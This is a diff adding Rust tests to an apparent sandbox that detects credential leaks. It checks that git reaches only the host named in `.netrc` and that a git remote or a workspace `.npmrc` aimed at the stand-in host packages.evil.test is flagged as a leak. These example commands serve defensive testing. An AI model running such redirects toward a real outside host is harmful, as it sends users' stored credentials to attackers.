@@ -17,9 +17,12 @@ const BUILTIN: &str = "version: 1\nextends: builtin\n";
 /// As the home's own `.npmrc` has it.
 const OWN: &str = "packages.example";
 const EVIL: &str = "packages.evil.test";
+/// As its `.netrc` has it; other files name it for another port.
+const MACHINE: &str = "forge.example";
 
 fn run(scene: &Scene, script: &str) -> anyhow::Result<Watched> {
-    let _server = NameServer::start(&scene.network.sink, Zone::new().a(OWN, [SINK_V4]).a(EVIL, [OTHER_V4]))?;
+    let zone = Zone::new().a(OWN, [SINK_V4]).a(MACHINE, [SINK_V4]).a(EVIL, [OTHER_V4]);
+    let _server = NameServer::start(&scene.network.sink, zone)?;
     let job = scene.job(["bash", "-c", script]).policy(BUILTIN).mode("enforce");
     Watched::run(scene, &job.resolver(Resolver::default()))
 }
@@ -76,6 +79,32 @@ fn files_of_the_workspace_are_not_believed() -> Result {
     std::fs::write(scene.home.workspace().join(".npmrc"), format!("registry=http://{EVIL}:{PORT}/\n"))?;
     let run = run(&scene, &npm(EVIL))?;
     assert!(leaks(&run).iter().any(|leak| leak.rule == "leak"), "{:#?}", run.conclusion.findings);
+    assert!(scene.sink.bytes().is_empty());
+    Ok(())
+}
+
+/// git opens the `.git/config` of a repository that the job made, as a clone does, and asks its remote at this host.
+fn git(host: &str) -> String {
+    format!(
+        "git init -q app && cd app && git remote add origin http://{host}:{PORT}/app && git ls-remote -q origin; true"
+    )
+}
+
+#[test]
+fn git_goes_where_netrc_logs_in() -> Result {
+    let scene = Scene::new()?;
+    let run = run(&scene, &git(MACHINE))?;
+    assert!(leaks(&run).is_empty(), "{:#?}", run.conclusion.findings);
+    assert!(String::from_utf8_lossy(&scene.sink.bytes()).contains("GET /app/info/refs"), "git did not arrive");
+    Ok(())
+}
+
+#[test]
+fn git_goes_nowhere_else() -> Result {
+    let scene = Scene::new()?;
+    let run = run(&scene, &git(EVIL))?;
+    let is_gits = |leak: &&Finding| leak.rule == "leak" && leak.secret.iter().any(|class| class == "git");
+    assert!(leaks(&run).iter().any(is_gits), "{:#?}", run.conclusion.findings);
     assert!(scene.sink.bytes().is_empty());
     Ok(())
 }
